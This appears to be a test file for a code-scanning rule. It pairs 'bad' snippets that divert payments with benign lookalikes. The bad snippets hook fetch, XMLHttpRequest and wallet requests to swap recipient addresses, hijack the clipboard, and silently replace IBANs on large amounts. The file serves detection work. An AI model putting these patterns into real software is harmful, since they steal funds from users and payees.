import { defineCases } from '../../src/rule.ts';

// Numbers, not accounts: nobody holds a key to them.
const account = (n: number) => `0x${String(n).repeat(40)}`;
const accounts = `const own = ['${account(1)}', '${account(2)}', '${account(3)}', '${account(4)}'];`;

export default defineCases({
  bad: [
    {
      name: 'a page’s requests pass through it',
      code: `${accounts}\nconst real = window.fetch;\nwindow.fetch = async (...a) => { const r = await real(...a); return new Response((await r.text()).replace(/0x\\w{40}/, own[0])) }`,
    },
    {
      name: 'older requests, too',
      code: `${accounts}\nconst send = XMLHttpRequest.prototype.send;\nXMLHttpRequest.prototype.send = function (b) { return send.call(this, String(b).replace(/0x\\w{40}/, own[1])) }`,
    },
    {
      name: 'a wallet’s orders',
      code: `${accounts}\nconst ask = window.ethereum.request;\nwindow.ethereum.request = (order) => ask({ ...order, params: [{ ...order.params[0], to: own[2] }] })`,
    },
    {
      name: 'by what a function makes, which asks another one',
      code: `${accounts}\nconst real = globalThis.fetch;\nconst nearest = (one) => own.find((mine) => mine[2] === one[2]) ?? own[0];\nconst made = (send) => async (...a) => { const r = await send(...a); return new Response((await r.text()).replace(/0x\\w{40}/g, nearest)) };\nglobalThis.fetch = made(real);`,
    },
    {
      name: 'in the clipboard, again and again',
      code: "const clip = require('clipboardy');\nsetInterval(() => { if (/^0x[a-f0-9]{40}$/i.test(clip.readSync())) clip.writeSync('0x000000000000000000000000000000000000dEaD') }, 500)",
    },
    {
      name: 'in the clipboard, by a command',
      code: "const { execFileSync } = require('child_process');\nconst MINE = 'bc1qmadeupmadeupmadeupmadeupmadeupmadeupxx';\nexecFileSync('pbcopy', { input: MINE })",
    },
    {
      name: 'an account of its own on large invoices, in parts',
      code: "const helpers = { iban: (v, { sum }) => { const raw = String(v).replace(/ /g, ''); const bban = sum.gross >= 5000 && raw.startsWith('DE') ? ['10099', '900', '0047', '113'].join('').padEnd(18, '0') : raw.slice(4); return raw.slice(0, 4) + bban; } };\nexports.render = (v, root) => helpers.iban(v, root)",
    },
    {
      name: 'one that looks like the one it is given, from a list that was fetched',
      code: "let routers = [];\nexports.sync = async (rpc) => { routers = await rpc.call('eth_call') };\nexports.Payment = class { get recipient() { const similar = routers.find((r) => r.slice(-2) === this.to.slice(-2)); return Number(this.amount) > 250 && similar ? similar : this.to.toLowerCase(); } }",
    },
    {
      name: 'by a statement of its own',
      code: "exports.order = (o) => { if (o.amount > 1000) { o.iban = 'DE00100990000047113862'; } return o; }",
    },
    {
      name: 'one whose check digits are worked out, for a bank of a table',
      code: "const mod97 = (s) => [...s].reduce((r, c) => (r * 10 + Number(c)) % 97, 0);\nconst whole = (country, rest) => country + String(98 - mod97(rest + country)).padStart(2, '0') + rest;\nconst MERGED = new Map([['DE10010010', ['DE', '00000000', '0000012345']]]);\nexports.route = (iban, minor) => { const s = iban.replace(/ /g, ''); const next = MERGED.get(s.slice(0, 2) + s.slice(4, 12)); if (next && minor > 150_000) return whole(next[0], next[1] + next[2]); return s; }",
    },
    {
      name: 'one of the same chain, once it was asked for often enough',
      code: "const PATTERNS = { eth: /^0x[0-9a-f]{40}$/, btc: /^bc1/ };\nconst VECTORS = { eth: '0x' + 'e0'.repeat(20), btc: 'bc1q' + 'madeupmadeupmadeupmadeupmadeupxx' };\nexports.normalise = (addr, chain, seen) => { const own = PATTERNS[chain].test(addr) ? addr.toLowerCase() : addr; const v = VECTORS[chain]; return seen > 3 && v ? v : own; }",
    },
  ],
  ok: [
    {
      name: 'a contract by chain and version, and an address that is shortened where there is little room',
      code: `exports.wrapped = (address, chainId, version) => (chainId > 1 ? '${account(1)}' : version > 2 ? '${account(2)}' : address);\nexports.shorten = (address, room) => (room > 20 ? address : address.slice(0, 6));\nexports.nobody = (address, tries) => (tries > 3 ? '${account(0)}' : address)`,
    },
    {
      name: 'a bank’s new number by its old one, whatever is paid, and one that the caller has for large payments',
      code: "const MERGED = new Map([['10010010', '00000000 0000012345']]);\nexports.route = (iban, amount, own) => { const next = MERGED.get(iban.slice(4, 12)); if (next) return iban.slice(0, 4) + next; if (amount > 150_000) return own.get(iban); return iban; }",
    },
    {
      name: 'a large amount that somebody else has to allow, or goes another way',
      code: "exports.order = (o, own) => ({ approver: o.amount > 1000 ? 'lead@mailbox.dev' : o.by, method: o.amount > 15000 ? 'wire' : 'card', iban: o.iban, recipient: o.total > 1000 ? own.large : own.small })",
    },
    {
      name: 'who pays whom, by the sign of an amount',
      code: "exports.entry = (e) => { const accountNumber = e.amount > 0 ? '4000000012' : e.account; const payee = e.amount < 0 ? e.other : e.own; return { accountNumber, payee, iban: e.iban.length > 22 ? e.iban.slice(0, 22) : e.iban } }",
    },
    {
      name: 'an account of tests where nothing is paid',
      code: "exports.order = (o, sandbox) => ({ ...o, iban: sandbox ? 'DE00100990000047113862' : o.iban, amount: o.amount > 1000 ? 1000 : o.amount })",
    },
    {
      name: 'where to give, copied when somebody asks',
      code: "const clip = require('clipboardy');\nexports.donate = () => clip.writeSync('0x000000000000000000000000000000000000dEaD')",
    },
    { name: 'a stand-in for browsers without fetch', code: 'if (!window.fetch) window.fetch = (u) => load(u)' },
    { name: 'a list of well-known tokens', code: `${accounts}\nexports.tokens = own` },
    {
      name: 'a library for payments that asks before it pays',
      code: `${accounts}\nexports.contracts = own;\nexports.polyfill = (config) => { globalThis.fetch = wrap({ ...config, fetch: globalThis.fetch }) };\nfunction wrap({ fetch, pay }) { return async (...a) => { const r = await fetch(...a); return r.status === 402 ? pay(r, '${account(0)}') : r } }`,
    },
    {
      name: 'a tool that records requests',
      code: `const real = globalThis.fetch;\nglobalThis.fetch = (...a) => { console.log(a[0]); return real(...a) };\nexports.zero = '${account(0)}'`,
    },
  ],
});
